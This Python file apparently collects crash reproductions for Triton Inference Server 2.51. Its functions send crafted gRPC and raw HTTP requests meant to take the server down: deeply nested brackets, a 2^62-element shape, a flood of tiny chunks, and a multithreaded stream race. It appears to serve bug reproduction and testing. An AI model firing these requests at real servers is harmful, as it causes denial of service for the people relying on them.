"""Requests that crash tritonserver 2.51."""

from __future__ import annotations

import contextlib
import io
import socket
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import grpc
import numpy as np
from PIL import Image
from tritonclient.grpc import service_pb2, service_pb2_grpc
from tritonclient.utils import np_to_triton_dtype, serialize_byte_tensor

TIMEOUT_S = 60.0
TRUE_STATUS = (("triton_grpc_error", "true"),)


def message(model: str, **options: int) -> service_pb2.ModelInferRequest:
    """A request for a turned object, in Triton's own words."""
    photo = io.BytesIO()
    Image.effect_noise((320, 240), 60).convert("RGB").save(photo, "JPEG")
    arrays = {
        "image": np.array([photo.getvalue()], object),
        "class_name": np.array([b"cup"], object),
        "box": np.array([20, 20, 300, 220], np.float32),
        "azimuth": np.array([40], np.float32),
        **{name: np.array([value]) for name, value in {"steps": 2, "background_steps": 2, **options}.items()},
    }
    request = service_pb2.ModelInferRequest(model_name=model)
    for name, array in arrays.items():
        request.inputs.add(name=name, datatype=np_to_triton_dtype(array.dtype), shape=array.shape)
        is_bytes = array.dtype == object
        request.raw_input_contents.append(bytes(serialize_byte_tensor(array).item()) if is_bytes else array.tobytes())
    return request


def classification_of_bytes(url: str) -> None:
    request = message("rotate_object")
    request.outputs.add(name="image").parameters["classification"].int64_param = 5
    with grpc.insecure_channel(url) as channel, contextlib.suppress(grpc.RpcError):
        service_pb2_grpc.GRPCInferenceServiceStub(channel).ModelInfer(request, timeout=TIMEOUT_S)


def two_requests_on_a_stream(url: str) -> None:
    messages = [message("rotate_object_stream", steps=100), message("rotate_object_stream", seed=-1)]
    for each in messages:
        each.outputs.add(name="stage")
    with grpc.insecure_channel(url) as channel, contextlib.suppress(grpc.RpcError):
        stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)
        list(stub.ModelStreamInfer(iter(messages), timeout=TIMEOUT_S, metadata=TRUE_STATUS))


def refused_streams_with_the_header(url: str, users: int = 8, seconds: float = 60.0) -> None:
    """One request on each stream, which is refused, until the server crashes: one in some hundred does it, on a
    machine that does little else.
    """
    dead, until_s = threading.Event(), time.monotonic() + seconds

    def refuse() -> None:
        request = message("rotate_object_stream", seed=-1)
        request.outputs.add(name="stage")
        with grpc.insecure_channel(url, [("grpc.use_local_subchannel_pool", 1)]) as channel:
            stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)
            while not dead.is_set() and time.monotonic() < until_s:
                try:
                    list(stub.ModelStreamInfer(iter([request]), timeout=TIMEOUT_S, metadata=TRUE_STATUS))
                except grpc.RpcError as error:
                    if error.code() == grpc.StatusCode.UNAVAILABLE:
                        dead.set()

    with ThreadPoolExecutor(users) as pool:
        for _ in range(users):
            pool.submit(refuse)


def nested_brackets(url: str) -> None:
    body = b"[" * 120_000
    _http(url, b"Content-Length: %d\r\n\r\n" % len(body) + body)


def shape_of_2_to_the_62(url: str) -> None:
    body = (
        b'{"inputs": [{"name": "image", "datatype": "BYTES", "shape": [1], "data": ["x"]}, {"name": "class_name", '
        b'"datatype": "BYTES", "shape": [1], "data": ["cup"]}, {"name": "azimuth", "datatype": "FP32", '
        b'"shape": [4611686018427387904], "data": []}]}'
    )
    _http(url, b"Content-Length: %d\r\n\r\n" % len(body) + body)


def many_small_chunks(url: str, chunks: int = 1_500_000) -> None:
    _http(url, b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n[\r\n" * chunks + b"0\r\n\r\n")


def _http(url: str, rest: bytes) -> None:
    host, _, port = url.rpartition(":")
    head = b"POST /v2/models/segment_object/infer HTTP/1.1\r\nHost: x\r\n"
    with contextlib.suppress(OSError), socket.create_connection((host, int(port)), TIMEOUT_S) as connection:
        connection.sendall(head + rest)
        connection.recv(1024)
